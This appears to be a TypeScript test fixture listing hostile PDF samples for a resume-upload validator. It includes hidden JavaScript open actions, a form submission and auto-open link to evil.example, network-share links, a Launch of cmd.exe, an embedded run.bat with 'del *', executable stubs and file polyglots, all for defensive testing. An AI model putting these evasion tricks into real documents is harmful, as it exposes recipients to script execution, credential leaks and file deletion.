import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import type { HostileResume } from './hostile-word.testkit.ts';
import {
  objectStream,
  pdfStream,
  pdfWith,
  pdfWithFile,
  sampleDocx,
  samplePdf,
  sampleZip,
  wordEntries,
} from './resume.testkit.ts';

const javaScript = '<</S/JavaScript/JS(app.alert(1))>>';

export const hostilePdfs: readonly HostileResume[] = [
  ['a web page before the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), samplePdf()])],
  ['a ZIP before the PDF', Buffer.concat([sampleZip(wordEntries), samplePdf()])],
  ['a script', pdfWith(`/OpenAction${javaScript}`)],
  ['a script by its name', pdfWith('/Names<</JavaScript 2 0 R>>', '<</Names[(a) 3 0 R]>>', '<</JS(x)>>')],
  ['a script under an escaped name', pdfWith('/OpenAction<</S /J#61va#53cript /JS(x)>>')],
  ['a script behind a string', pdfWith('/X(a\\)(b)c)/OpenAction<</S/JavaScript/JS(x)>>')],
  ['a script that poses as the place of a link', pdfWith('/OpenAction<</S /JavaScript [0]/JS(x)>>')],
  ['a script in an object stream', pdfWith('/OpenAction 9 0 R', objectStream(javaScript))],
  ['a script in an object stream without a type', pdfWith('/OpenAction 9 0 R', objectStream(javaScript, ''))],
  [
    'a script in an object stream of hexadecimal digits',
    pdfWith(
      '',
      pdfStream(`${Buffer.from(`9 0 ${javaScript}`).toString('hex')}>`, '/N 1/First 4/Filter[/ASCIIHexDecode]'),
    ),
  ],
  [
    'a script in an object stream whose filter is elsewhere',
    pdfWith('', pdfStream(deflateSync(`9 0 ${javaScript}`), '/N 1/First 4/Filter 3 0 R'), '/FlateDecode'),
  ],
  [
    'a script in an object stream whose place is elsewhere',
    pdfWith('', pdfStream(`9 0 (${javaScript})`, '/N 1/First 3 0 R'), '5'),
  ],
  ['a script inside a string of an object stream', pdfWith('', pdfStream(`9 1 (${javaScript})`, '/N 1/First 4'))],
  [
    'an object stream of a filter of pictures',
    pdfWith('', pdfStream('9 0 x', '/Type/ObjStm/N 1/First 4/Filter/DCTDecode')),
  ],
  [
    'an object stream of a predictor',
    pdfWith('', pdfStream(deflateSync('9 0 x'), '/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>')),
  ],
  ['an object inside a stream', pdfWith('/OpenAction 9 0 R', pdfStream(`9 0 obj ${javaScript} endobj`))],
  ['an object inside a string', pdfWith(`/X(9 %\n0 obj ${javaScript} endobj)`)],
  [
    'an object inside the comment at the end',
    Buffer.concat([pdfWith('/OpenAction 9 0 R'), Buffer.from(`%%EOF9 0 obj${javaScript}endobj`)]),
  ],
  ['a trailer with a script', pdfWith('', `<<>>\nendobj\ntrailer<</Root<</OpenAction${javaScript}>>>>`)],
  ['a stream without an end', pdfWith('', `<<>>\nstream\n3 0 obj${javaScript}`)],
  ['a script whose kind is elsewhere', pdfWith('/OpenAction<</S 2 0 R/JS(x)>>', '/JavaScript')],
  ['a script whose kind occurs twice', pdfWith('/OpenAction<</S/JavaScript/S/GoTo>>')],
  ['a script among keys that are no names', pdfWith('/OpenAction<<1(x)/S 2/S/JavaScript>>')],
  ['a form that is sent', pdfWith('/AcroForm<</Fields[<</A<</S/SubmitForm/F(https://evil.example)>>>>]>>')],
  ['data that are imported', pdfWith('/OpenAction<</S/ImportData/F(x.fdf)>>')],
  ['a website that opens by itself', pdfWith('/OpenAction<</S/URI/URI(https://evil.example)>>')],
  [
    'a website that opens after another action',
    pdfWith('/OpenAction 2 0 R', '<</S/GoTo/D[0/Fit]/Next[3 0 R]>>', '<</S/URI/URI(x:y)>>'),
  ],
  [
    'a website that opens with a page',
    pdfWith('/Pages 2 0 R', '<</Kids[<</AA 3 0 R>>]>>', '<</O 4 0 R>>', '<</S/URI/URI(x:y)>>'),
  ],
  ['another PDF of a share', pdfWith(String.raw`/OpenAction<</S/GoToR/F(\\\\evil.example\\x.pdf)/D[0/Fit]>>`)],
  [
    'another PDF of a share, in UTF-16',
    pdfWith(`/X<</S/GoToR/F<</UF<feff${Buffer.from('//evil/x', 'utf16le').swap16().toString('hex')}>>>>>`),
  ],
  ['another PDF of a share, elsewhere', pdfWith('/X<</S/GoToR/F 2 0 R>>', '<</F 3 0 R>>', '(//evil/x)')],
  ['a stream of a server', pdfWith('', '<</F<</FS/URL/F(x)>>/Length 0>>\nstream\n\nendstream')],
  ['rich media', pdfWith('/X<</Subtype/RichMedia>>')],
  ['a script of a 3D scene', pdfWith('/X<</Type/3D/OnInstantiate 3 0 R>>')],
  [
    'a form of XFA with a script',
    pdfWith(
      '/AcroForm<</XFA[(template)2 0 R]>>',
      pdfStream(deflateSync('<template><event><script>x</script></event></template>'), '/Filter/FlateDecode'),
    ),
  ],
  [
    'a form of XFA with a script in UTF-16',
    pdfWith('/AcroForm<</XFA 2 0 R>>', pdfStream(Buffer.from('<x:script>', 'utf16le'))),
  ],
  ...[
    ['run.bat', 'del *'],
    ['a.txt', 'MZ\x90\0'],
    ['a.txt', '<html><script>x</script>'],
    ['a.xml', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><x/>'],
    ['a.xml', '<?xml-stylesheet href="x.xsl"?><x/>'],
    ['a.png', Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), sampleZip([{ name: 'x' }])])],
    ['a.docx', sampleDocx()],
  ].map(
    ([fileName = '', content = '']) =>
      [
        `the file ${String(fileName)} with ${String(content).slice(0, 9)}`,
        pdfWithFile(String(fileName), content),
      ] as const,
  ),
  ['a file with a second name', pdfWithFile('a.txt', 'x', '/UF(run.bat)')],
  ['a file inside, not named anywhere', pdfWith('', pdfStream('MZ\x90\0', '/Type/EmbeddedFile'))],
  ['a file whose list is elsewhere', pdfWith('', '<</F(a.txt)/EF 3 0 R>>', '<</F 4 0 R>>', pdfStream('MZ\x90\0'))],
  ['a document behind it', Buffer.concat([samplePdf(), sampleDocx()])],
  [
    'an archive that ends with it',
    Buffer.concat([
      samplePdf().subarray(0, 900),
      Buffer.from('PK\x05\x06'.padEnd(20, '\0'), 'latin1'),
      Buffer.from([29, 0]),
      Buffer.from('\nendobj\ntrailer<<>>\n%%EOF\n'.padEnd(29)),
    ]),
  ],
  ['a web page after it', Buffer.concat([samplePdf(), Buffer.from('\n<HTML><body (')])],
  ...['script-owner-128', 'script-owner-256', 'share-owner-128', 'share-owner-256'].map(
    (name) => [name, readFileSync(new URL(`fixtures/hostile/${name}.pdf`, import.meta.url))] as const,
  ),
  ['a program to start', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a file that is missing', pdfWith('', '<</F(a.txt)/EF<</F 99 0 R>>>>')],
].map(([what, content]) => [what, 'resume.pdf', content] as HostileResume);
